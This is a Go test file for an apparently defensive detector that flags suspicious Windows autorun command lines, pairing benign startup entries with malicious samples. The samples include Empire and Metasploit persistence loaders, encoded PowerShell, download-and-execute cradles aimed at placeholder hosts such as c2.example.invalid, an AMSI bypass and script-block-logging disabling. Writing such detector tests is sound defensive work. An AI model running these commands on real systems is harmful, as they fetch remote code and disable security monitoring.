package payload

import (
	"slices"
	"strings"
	"testing"

	"github.com/runkeyhunt/runkeyhunt/tables/indicators"
)

const (
	encodedCommand   = indicators.EncodedCommand
	hiddenWindow     = indicators.HiddenWindow
	noProfile        = indicators.NoProfile
	execPolicy       = indicators.ExecPolicyBypass
	downloadCradle   = indicators.DownloadCradle
	invokeExpression = indicators.InvokeExpression
	reflectionLoad   = indicators.ReflectionLoad
	amsiBypass       = indicators.AMSIBypass
	sbLogging        = indicators.ScriptblockLoggingBypass
	lolbinScript     = indicators.LolbinScript
	compressed       = indicators.CompressedPayload
)

func TestTextIndicatorsMalicious(t *testing.T) {
	enc := empireEncode(`Start-Process calc`)
	ps := `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"`
	tests := []struct {
		name string
		text string
		want []string
	}{
		{"empire registry loader", ps + ` -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`,
			[]string{encodedCommand, hiddenWindow}},
		{"empire ads loader", ps + ` -c "$x=$(cmd /c ''more < C:\Users\bob\AppData:blah'');powershell -Win Hidden -enc $x"`,
			[]string{encodedCommand, hiddenWindow}},
		{"empire eventlog loader", ps + ` -c "$x=$([Text.Encoding]::ASCII.GetString(@((Get-Eventlog -LogName Application | ?{$_.eventid -eq 4242}))[0].data));powershell -Win Hidden -enc $x"`,
			[]string{encodedCommand, hiddenWindow}},
		{"empire stager text", empireStager(defaultStager),
			[]string{amsiBypass, downloadCradle, invokeExpression, sbLogging}},
		{"classic one-liner", `powershell -nop -w hidden -e ` + enc,
			[]string{encodedCommand, hiddenWindow, noProfile}},
		{"long parameter names", `powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ` + enc,
			[]string{encodedCommand, execPolicy, hiddenWindow, noProfile}},
		{"-ec alias with slash", `PowerShell /ec ` + enc, []string{encodedCommand}},
		{"-encodedc abbreviation", `pwsh -EncodedC ` + enc, []string{encodedCommand}},
		{"en-dash parameter", "powershell \u2013enc " + enc, []string{encodedCommand}},
		{"backtick obfuscation", "p`o`w`e`r`s`h`e`l`l -e`nc " + enc, []string{encodedCommand}},
		{"caret obfuscation in cmd", `cmd /c p^owershell -en^c ` + enc, []string{encodedCommand}},
		{"quoted -enc argument", `powershell -enc "` + enc + `"`, []string{encodedCommand}},
		{"renamed host, argument decodes to utf16le", `"C:\Users\Public\svc.exe" -enc ` + enc, []string{encodedCommand}},
		{"metasploit registry_persistence", `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "$s=(Get-Item 'HKCU:\Software\Foo').GetValue('bar');iex ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String($s)))"`,
			[]string{hiddenWindow, invokeExpression, noProfile}},
		{"powersploit add-persistence", `powershell.exe -NonInteractive -WindowStyle Hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug)))"`,
			[]string{hiddenWindow, invokeExpression}},
		{"poweliks rundll32 javascript", `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write("\74script language=jscript.encode>"+(new%20ActiveXObject("WScript.Shell")).RegRead("HKCU\\software\\microsoft\\windows\\currentversion\\run\\")+"\74/script>")`,
			[]string{lolbinScript}},
		{"kovter mshta eval", `mshta javascript:a=new ActiveXObject("WScript.Shell");eval(a.RegRead("HKCU\\software\\x\\y"));close()`,
			[]string{invokeExpression, lolbinScript}},
		{"mshta vbscript execute with hidden run", `mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -c calc"", 0:close")`,
			[]string{hiddenWindow, invokeExpression, lolbinScript, noProfile}},
		{"mshta vbscript run call", `mshta vbscript:CreateObject("WScript.Shell").Run("cmd /c calc",0)(window.close)`,
			[]string{hiddenWindow, lolbinScript}},
		{"squiblydoo", `regsvr32 /s /n /u /i:http://example.invalid/file.sct scrobj.dll`, []string{downloadCradle, lolbinScript}},
		{"mshta remote hta", `mshta.exe http://example.invalid/payload.hta`, []string{downloadCradle}},
		{"downloadstring iex", `powershell -c "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')"`, []string{downloadCradle, invokeExpression}},
		{"iwr piped to iex", `powershell iwr http://127.0.0.1/a -UseBasicParsing | iex`, []string{downloadCradle, invokeExpression}},
		{"bitsadmin transfer", `bitsadmin /transfer job /download /priority high http://127.0.0.1/a.exe C:\Users\Public\a.exe`, []string{downloadCradle}},
		{"certutil urlcache", `certutil.exe -urlcache -split -f http://127.0.0.1/a C:\Users\Public\a`, []string{downloadCradle}},
		{"start-bitstransfer", `Start-BitsTransfer -Source http://127.0.0.1/a -Destination $env:TEMP\a`, []string{downloadCradle}},
		{"xmlhttp com object", `$x=New-Object -ComObject Msxml2.XMLHTTP;$x.open('GET','http://127.0.0.1/a',$false)`, []string{downloadCradle}},
		{"script moniker", `GetObject("script:https://example.invalid/x.sct")`, []string{downloadCradle}},
		{"invoke-webrequest", `powershell -Command "Invoke-WebRequest -Uri http://127.0.0.1/a -OutFile C:\Users\Public\a"`, []string{downloadCradle}},
		{"assembly load", `[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))`, []string{reflectionLoad}},
		{"add-type typedefinition", `Add-Type -TypeDefinition $src -Language CSharp`, []string{reflectionLoad}},
		{"add-type here-string", "Add-Type @\"\nusing System;\npublic class K { }\n\"@", []string{reflectionLoad}},
		{"add-type memberdefinition", `$k32 = Add-Type -Name K -Namespace W -MemberDefinition $sig -PassThru`, []string{reflectionLoad}},
		{"virtualalloc delegate", `$p=$k32::VirtualAlloc(0,$sc.Length,0x3000,0x40);$f=[Runtime.InteropServices.Marshal]::GetDelegateForFunctionPointer($p,$t)`, []string{reflectionLoad}},
		{"amsi bypass", `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)`, []string{amsiBypass}},
		{"amsiscanbuffer patch", `$a=[K32]::GetProcAddress($h,'AmsiScanBuffer')`, []string{amsiBypass}},
		{"cachedgrouppolicysettings", `$s=[Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static')`, []string{sbLogging}},
		{"scriptblock logging key", `Set-ItemProperty HKLM:\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging -Name EnableScriptBlockLogging -Value 0`, []string{sbLogging}},
		{"set-executionpolicy", `Set-ExecutionPolicy RemoteSigned -Scope Process -Force`, []string{execPolicy}},
		{"-ep bypass", `powershell -ep bypass -f C:\Users\Public\a.ps1`, []string{execPolicy}},
		{"-exec unrestricted", `powershell -exec unrestricted -c calc`, []string{execPolicy}},
		{"en-dash execution policy", "powershell \u2013ExecutionPolicy Bypass -c calc", []string{execPolicy}},
		{"deflatestream", `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String($d));IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
			[]string{compressed, invokeExpression}},
		{"gzipstream", `$g=New-Object System.IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress)`, []string{compressed}},
		{"scriptblock create and invoke", `$sb=[ScriptBlock]::Create($code);$sb.Invoke()`, []string{invokeExpression}},
		{"invoke-command scriptblock", `Invoke-Command -ScriptBlock {calc}`, []string{invokeExpression}},
		{"icm literal block", `icm {calc}`, []string{invokeExpression}},
		{"literal block invoke", `{ calc }.Invoke()`, []string{invokeExpression}},
		{"invoke-expression", `Invoke-Expression $code`, []string{invokeExpression}},
		{"pipe to iex", `"$c" | iex`, []string{invokeExpression}},
		{"iex call", `IEX($c)`, []string{invokeExpression}},
		{"backticked iex", "I`E`X $x", []string{invokeExpression}},
		{"invokescript", `$ExecutionContext.InvokeCommand.InvokeScript($c)`, []string{invokeExpression}},
		{"wscript.shell run hidden from powershell", `(New-Object -ComObject WScript.Shell).Run("powershell -nop -c calc", 0)`, []string{hiddenWindow, lolbinScript, noProfile}},
		{"windowstyle 1", `powershell -windowstyle 1 -c calc`, []string{hiddenWindow}},
		{"-win h", `powershell -win h -c calc`, []string{hiddenWindow}},
		{"start /min script host", `cmd.exe /c start /min powershell.exe -c calc`, []string{hiddenWindow}},
		{"start /b with title", `cmd /c start "" /b wscript.exe C:\Users\Public\a.vbs`, []string{hiddenWindow}},
		{"-w hidden", ps + ` -w hidden -c "Start-Process calc"`, []string{hiddenWindow}},
		{"processwindowstyle hidden", `$i.WindowStyle=[Diagnostics.ProcessWindowStyle]::Hidden`, []string{hiddenWindow}},
		{"-noprofile abbreviation", `pwsh -NoPr -c calc`, []string{noProfile}},
		{"activexobject alone", `new ActiveXObject("Scripting.FileSystemObject")`, []string{lolbinScript}},
	}
	covered := indicators.Set{}
	for _, tt := range tests {
		covered.Add(tt.want...)
		t.Run(tt.name, func(t *testing.T) {
			if got := TextIndicators(tt.text); !slices.Equal(got, tt.want) {
				t.Errorf("TextIndicators(%.100q) = %q, want %q", tt.text, got, tt.want)
			}
		})
	}
	owned := []string{encodedCommand, hiddenWindow, noProfile, execPolicy, downloadCradle, invokeExpression,
		reflectionLoad, amsiBypass, sbLogging, lolbinScript, compressed}
	for _, id := range owned {
		if !covered.Has(id) {
			t.Errorf("no positive case for %s", id)
		}
	}
}

func TestTextIndicatorsBenign(t *testing.T) {
	tests := []struct {
		name string
		text string
	}{
		{"chrome", `"C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window --win-session-start /prefetch:5`},
		{"edge", `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start`},
		{"security health", `C:\Windows\system32\SecurityHealthSystray.exe`},
		{"security health expanded", `%windir%\system32\SecurityHealthSystray.exe`},
		{"vmware tools", `"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe" -n vmusr`},
		{"teams", `"C:\Users\bob\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"`},
		{"logitech", `rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`},
		{"onedrive", `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`},
		{"realtek", `"C:\Windows\System32\RtkAudUService64.exe" -background`},
		{"defender", `"%ProgramFiles%\Windows Defender\MSASCuiL.exe"`},
		{"ctfmon", `C:\Windows\System32\ctfmon.exe`},
		{"com server -embedding", `"C:\Program Files\Vendor\Agent.exe" -Embedding`},
		{"electron enable-features", `"C:\Users\bob\AppData\Local\Programs\App\App.exe" --enable-features=WebRTCPipeWireCapturer --hidden`},
		{"sysinternals eula", `"C:\Tools\procexp64.exe" /accepteula /t /eula`},
		{"steam", `"C:\Program Files (x86)\Steam\steam.exe" -silent`},
		{"discord", `"C:\Users\bob\AppData\Local\Discord\Update.exe" --processStart Discord.exe`},
		{"spotify", `"C:\Users\bob\AppData\Roaming\Spotify\Spotify.exe" --autostart --minimized`},
		{"nvidia container", `"C:\Program Files\NVIDIA Corporation\Display.NvContainer\NVDisplay.Container.exe" -s NVDisplay.ContainerLocalSystem -f "C:\ProgramData\NVIDIA\NVDisplay.ContainerLocalSystem.log" -l 3 -d "C:\Program Files\NVIDIA Corporation\Display.NvContainer\plugins\LocalSystem" -r -p 30000`},
		{"logon script", `powershell.exe -File "C:\Scripts\logon.ps1"`},
		{"remotesigned policy", `powershell.exe -ExecutionPolicy RemoteSigned -File C:\Scripts\logon.ps1`},
		{"minimized window", `powershell.exe -WindowStyle Minimized -File C:\Scripts\logon.ps1`},
		{"-encoding is not -encodedcommand", `powershell -Command "Get-Content C:\x.txt -Encoding UTF8"`},
		{"-enc as -Encoding", `powershell -c "gc C:\x.txt -enc utf8 | Out-File C:\y.txt"`},
		{"-e of another program", `"C:\Program Files\Java\bin\javaw.exe" -jar C:\app\app.jar -e production`},
		{"-e with a file", `"C:\Program Files\x\tool.exe" -e config.yaml`},
		{"xcopy /e", `xcopy /e C:\a C:\b`},
		{"cmd /e:on", `cmd /e:on /c echo hi`},
		{"iexplore", `"C:\Program Files\Internet Explorer\iexplore.exe" http://example.invalid/`},
		{"iex inside a word", `C:\Tools\priexx.exe /iexist`},
		{"variable named like iex", `$iexists = 1; $x.iex = 2`},
		{"hidden alone", `"C:\Program Files\App\app.exe" -hidden /hidden --hidden`},
		{"write-host hidden", `Write-Host "the window is hidden"`},
		{"add-type assemblyname", `Add-Type -AssemblyName System.Windows.Forms`},
		{"loadwithpartialname", `[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')`},
		{"wscript on a local script", `wscript.exe "C:\Program Files\Vendor\update.vbs"`},
		{"cscript slmgr", `cscript.exe //nologo "C:\Windows\System32\slmgr.vbs" /dli`},
		{"mshta local hta", `C:\Windows\System32\mshta.exe "C:\Program Files\App\help.hta"`},
		{"rundll32 url handler", `rundll32.exe url.dll,FileProtocolHandler https://example.invalid/`},
		{"control panel applet", `C:\Windows\system32\rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL desk.cpl`},
		{"start without hide", `cmd /c start "" "C:\Program Files\App\app.exe"`},
		{"start /min of a normal program", `cmd /c start /min "" "C:\Program Files\App\app.exe"`},
		{"retrieval and medieval", `"C:\Program Files\Retrieval\retrieval.exe" --evaluate medieval(1)`},
		{"-w 1 of another program", `"C:\Program Files\Vendor\svc.exe" -w 1`},
		{"-windowstyle normal", `"C:\Program Files\Vendor\agent.exe" -windowstyle normal`},
		{"execution policy value", `Set-ItemProperty -Path HKLM:\x -Name ExecutionPolicy -Value RemoteSigned`},
		{"run with visible window", `$sh.Run("notepad.exe", 1, $false)`},
		{"runas verb", `Start-Process app.exe -Verb RunAs`},
		{"compression namespace without streams", `Add-Type -AssemblyName System.IO.Compression.FileSystem; [IO.Compression.ZipFile]::ExtractToDirectory($a,$b)`},
		{"onedrive setup", `"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDriveSetup.exe" /thfirstsetup`},
		{"empty", ``},
	}
	if len(tests) < 30 {
		t.Fatalf("want at least 30 benign cases, have %d", len(tests))
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := TextIndicators(tt.text); len(got) != 0 {
				t.Errorf("TextIndicators(%q) = %q, want none", tt.text, got)
			}
		})
	}
}

// Matching ignores ASCII case for every indicator except encoded_command,
// whose base64 argument is checked by decoding it.
func TestTextIndicatorsIgnoreCase(t *testing.T) {
	texts := []string{
		empireStager(defaultStager),
		`powershell -NoP -W Hidden -EP Bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')"`,
		`mshta javascript:a=new ActiveXObject("WScript.Shell");eval(a.RegRead("HKCU\\software\\x\\y"))`,
	}
	for _, text := range texts {
		base := TextIndicators(text)
		if len(base) == 0 {
			t.Fatalf("precondition: %q has no indicators", text)
		}
		for _, variant := range []string{strings.ToUpper(text), strings.ToLower(text)} {
			if got := TextIndicators(variant); !slices.Equal(got, base) {
				t.Errorf("TextIndicators(%.60q) = %q, want %q as for the original case", variant, got, base)
			}
		}
	}
}

func BenchmarkTextIndicators(b *testing.B) {
	inputs := map[string]string{
		"loader":  `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -c "$x=$((gp HKCU:Software\Microsoft\Windows\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"`,
		"benign":  `"C:\Program Files\Google\Chrome\Application\chrome.exe" --no-startup-window --win-session-start /prefetch:5`,
		"stager":  empireStager(stagerOptions{host: "c2.example.invalid", userAgent: defaultStager.userAgent, padTo: 2600}),
		"1MiBlog": strings.Repeat("Get-ChildItem C:\\Windows -Recurse | Out-Null; ", (1<<20)/48),
		// Adversarial: every anchor repeated, each with an unfinished match.
		"1MiBanchors": strings.Repeat(`mshta rundll32 regsvr32 wscript start .run("`, (1<<20)/44),
	}
	for _, name := range []string{"loader", "benign", "stager", "1MiBlog", "1MiBanchors"} {
		text := inputs[name]
		b.Run(name, func(b *testing.B) {
			b.SetBytes(int64(len(text)))
			b.ReportAllocs()
			for b.Loop() {
				TextIndicators(text)
			}
		})
	}
}

// TestTextIndicatorsObfuscated: indicators hidden by string building are
// found through the normalised text.
func TestTextIndicatorsObfuscated(t *testing.T) {
	tests := []struct{ text, want string }{
		{`powershell -c "&(('ie')+'x') (New-Object ('Net.'+'WebC'+'lient')).('Down'+'loadString')('http://c2.example.invalid/a')"`, indicators.DownloadCradle},
		{`powershell -c "&(('ie')+'x') $c"`, indicators.InvokeExpression},
		{`powershell -c "&([char]105+[char]101+[char]120) $c"`, indicators.InvokeExpression},
		{`powershell -c "$t='Net.WebClient'; $w=New-Object $t"`, indicators.DownloadCradle},
		{`powershell "-w" "hidden" "-nop" "-c" "calc"`, indicators.HiddenWindow},
	}
	for _, tt := range tests {
		if got := TextIndicators(tt.text); !slices.Contains(got, tt.want) {
			t.Errorf("TextIndicators(%q) = %q, lacks %s", tt.text, got, tt.want)
		}
	}
}
